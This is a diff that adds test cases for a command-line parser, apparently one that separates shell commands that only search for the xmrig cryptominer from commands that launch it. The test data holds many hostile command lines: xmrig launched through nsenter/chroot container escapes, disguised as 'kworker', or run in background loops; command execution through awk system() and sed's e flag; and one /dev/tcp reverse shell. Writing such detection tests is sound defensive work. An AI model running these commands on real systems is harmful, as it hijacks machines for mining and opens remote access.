@@ -9,6 +9,31 @@ describe('a command line', () => {
     "sh -c 'ps aux | grep xmrig'",
     'sudo /bin/ls -l /tmp/xmrig',
     'pkill -9 xmrig; ps',
+    '/usr/bin/pgrep -f xmrig|minerd',
+    'sh -c ps aux|grep -E "xmrig|minerd"',
+    'sh -c ps aux | grep -E xmrig|minerd',
+    'sudo sh -c "ps aux | grep xmrig"',
+    'sh -c ls /tmp/xmrig 2>&1 >/dev/null',
+    'sh -c grep xmrig <(ps aux)',
+    'grep -E (xmrig|minerd) /tmp/a',
+    'find / -name xmrig -type f',
+    'find / ( -name xmrig -o -name minerd ) -exec ls -l {} ;',
+    'find / -type f -exec grep -l xmrig {} +',
+    'sh -c find / -type f -exec sh -c \'grep -l xmrig "$1" | cut -d: -f1\' _ {} \\;',
+    'sh -c find /tmp -type f | xargs -r -n 1 grep -l xmrig',
+    'sh -c ls /proc | xargs -I {} grep -l xmrig /proc/{}/cmdline',
+    'sh -c if grep -q xmrig /tmp/a; then ls -l /tmp/xmrig; else ! pgrep xmrig; fi',
+    'sh -c { grep xmrig /tmp/a; }',
+    'sh -c ( grep xmrig /tmp/a )',
+    'sh -c [ -x /tmp/xmrig ] && test -f /tmp/xmrig && [[ -d /opt/xmrig ]]',
+    'sed -n /xmrig/p /etc/crontab',
+    'awk /xmrig/ /etc/crontab',
+    "sh -c tr '\\0' ' ' </proc/7/cmdline",
+    'command -v xmrig',
+    'command -V xmrig',
+    'sudo -u nobody timeout 5 grep -r xmrig /etc',
+    'xargs',
+    "sh -c ps aux | grep xmrig | awk '{print $2}'",
   ];
   for (const line of looks) {
     it(`only looks: ${line}`, () => {
@@ -28,17 +53,113 @@ describe('a command line', () => {
     ['FOO=1 nice -n 19 timeout 5m /tmp/.x/XMRig', 'xmrig'],
     ["grep 'a ; xmrig", 'xmrig'],
     ['x"mri"g -o a', 'xmrig'],
+    ['sh -c ls|xmrig -o a', 'xmrig'],
+    ['sh -c ls\t|\txmrig', 'xmrig'],
+    ['sh -c ls |& xmrig', 'xmrig'],
+    ['sh -c grep x /etc/hosts|./xmrig -o a', 'xmrig'],
+    ["sh -c grep -v '#' /etc/hosts|xmrig", 'xmrig'],
+    ['bash -c ls > >(xmrig -o a)', 'xmrig'],
+    ['bash -c ls "$(ps; xmrig)"', 'xmrig'],
+    ['sh -c case a in a) xmrig;; esac', 'xmrig'],
+    ['sh -c echo $(case a in a) xmrig;; esac)', 'xmrig'],
+    ['sh -c case a in a) id;; esac; xmrig # :)', 'xmrig'],
+    ['sh -c xmrig # :)', 'xmrig'],
+    [`env A=${'x'.repeat(4000)} sh -c grep a|./xmrig -o b`, 'xmrig'],
+    ['sh -c id | xargs -i xmrig {}', 'xmrig'],
+    ['ls; bash -c "ps; xmrig"', 'xmrig'],
+    ['sh -c xm\\\nrig', 'xmrig'],
+    ['find /tmp -name a -exec xmrig -o b ;', 'xmrig'],
+    ['find / -exec grep -q a {} ; -exec /tmp/xmrig {} ;', 'xmrig'],
+    ["find / -exec sh -c 'ls; xmrig' {} ;", 'xmrig'],
+    ['sh -c ls | xargs -n 1 xmrig', 'xmrig'],
+    ['command xmrig', 'xmrig'],
+    ['sh -c while true; do xmrig -c c.json; sleep 5; done', 'xmrig'],
+    ['sh -c until false; do sleep 1; xmrig; done', 'xmrig'],
+    ['sh -c if true; then xmrig; fi', 'xmrig'],
+    ['sh -c if xmrig; then true; fi', 'xmrig'],
+    ['sh -c { xmrig; }', 'xmrig'],
+    ['sh -c (cd /tmp && xmrig)', 'xmrig'],
+    ['sh -c f() { xmrig; }; f', 'xmrig'],
+    ['sh -c f(){ xmrig; }; f', 'xmrig'],
+    ['sh -c xmrig>/dev/null 2>&1 &', 'xmrig'],
+    ['sh -c xmrig 2>/dev/null', 'xmrig'],
+    ['sh -c >/dev/null xmrig', 'xmrig'],
+    ['sh -c 2>/dev/null </dev/null xmrig', 'xmrig'],
+    ['bash -c exec -a kworker xmrig', 'xmrig'],
+    ['taskset -c 0-3 xmrig', 'xmrig'],
+    ['taskset 0x3 xmrig', 'xmrig'],
+    ['chroot /host /tmp/xmrig', 'xmrig'],
+    ['nsenter -t 1 -m -- /tmp/xmrig', 'xmrig'],
+    ['nsenter --target 1 --mount /tmp/xmrig', 'xmrig'],
+    ['nsenter -t1 -m sh -c cd /tmp; ./xmrig', 'xmrig'],
+    ['sudo -u nobody xmrig', 'xmrig'],
+    ['sudo --user nobody A=1 xmrig', 'xmrig'],
+    ['su nobody -s /bin/sh -c "cd /tmp; xmrig"', 'xmrig'],
+    ['gosu nobody xmrig', 'xmrig'],
+    ['tini -s -- /usr/bin/xmrig -c /c.json', 'xmrig'],
+    ['/usr/bin/dumb-init xmrig', 'xmrig'],
+    ['timeout -s KILL 5m nice -n19 ionice -c 3 cpulimit -l 70 -- xmrig', 'xmrig'],
+    ['screen -dmS a xmrig', 'xmrig'],
+    ['watch -n 5 "ls; xmrig"', 'xmrig'],
+    ['env -S "xmrig -c a"', 'xmrig'],
+    ['/lib64/ld-linux-x86-64.so.2 /tmp/xmrig', 'xmrig'],
+    ['sh xmrig.sh', 'xmrig.sh'],
+    ['bash -o posix -c xmrig', 'xmrig'],
+    ['sh -c ! xmrig', 'xmrig'],
+    ['sh -c for f in a b; do xmrig -c $f; done', 'xmrig'],
   ];
   for (const [line, program] of acts) {
     it(`runs something: ${line}`, () => assert.ok(programsOf(line).includes(program), String(programsOf(line))));
   }
 
+  it('only looks by programs from where systems keep theirs', () => {
+    for (const ps of ['ps', '/bin/ps', '/usr/bin/ps', '/sbin/ps', '/usr/sbin/ps'])
+      assert.deepEqual(actingParts(ps), []);
+    for (const ps of ['/tmp/ps', './ps', '/opt/ps', '/tmp/usr/bin/ps']) assert.deepEqual(actingParts(ps), [ps]);
+  });
+
+  it('starts nothing of what a program is told besides', () => {
+    for (const line of [
+      'sudo -u xmrig id',
+      'exec -a xmrig id',
+      'chroot /xmrig id',
+      'taskset -c 0-3 id xmrig',
+      'timeout 5 id xmrig',
+      'nsenter -t 1 -m -- id xmrig',
+      'sh -c for xmrig in a; do id $xmrig; done',
+      'sh -c id >xmrig 2>>/tmp/xmrig',
+      'sh -c XMRIG=1 id # xmrig',
+      'tini -- id xmrig',
+      'flock /tmp/xmrig id',
+      'screen -r xmrig',
+      'sh -c case $(cat /proc/1/comm) in xmrig|minerd) id;; kinsing | xmrig ) id;; esac',
+      'sh -c case $1 in\n  id) id;;\n  xmrig|minerd)\n id;;\nesac',
+      'find / ( -name xmrig -o -name a ) -exec id {} ;',
+    ]) {
+      assert.ok(!programsOf(line).includes('xmrig'), line);
+    }
+  });
+
+  it('does more than look where it is told to run, or to write, what it finds', () => {
+    for (const line of [
+      `awk 'BEGIN{system("id")}'`,
+      `awk '{print | "sh"}' a`,
+      `awk 'BEGIN{"id" | getline a}'`,
+      'sed -i s/a/b/ /etc/crontab',
+      'sed -ni.old s/a/b/ /etc/crontab',
+      "sed 's/a/id/e' b",
+      "sed '1e id' b",
+      "sed 's/a/id/' b | sh",
+      "sed 's/a/id/' b | tr a b|/bin/bash -s",
+      "sh -c awk '{print $1}' a | python3 -",
+      `awk 'BEGIN{print "id"}' > /tmp/a`,
+    ]) {
+      assert.equal(actingParts(line).join(''), line.replace(/^sh -c /, ''));
+    }
+  });
+
   it('is taken apart outside of quotes alone', () => {
-    assert.deepEqual(actingParts(`echo "a; b" ; echo 'c | d' | tr a b`), [
-      'echo "a; b" ',
-      "; echo 'c | d' ",
-      '| tr a b',
-    ]);
+    assert.deepEqual(actingParts(`echo "a; b" ; echo 'c | d' | tee e`), ['echo "a; b" ', "; echo 'c | d' ", '| tee e']);
     assert.deepEqual(actingParts('bash -i >& /dev/tcp/h/1 0>&1'), ['bash -i >& /dev/tcp/h/1 0>&1']);
   });
 
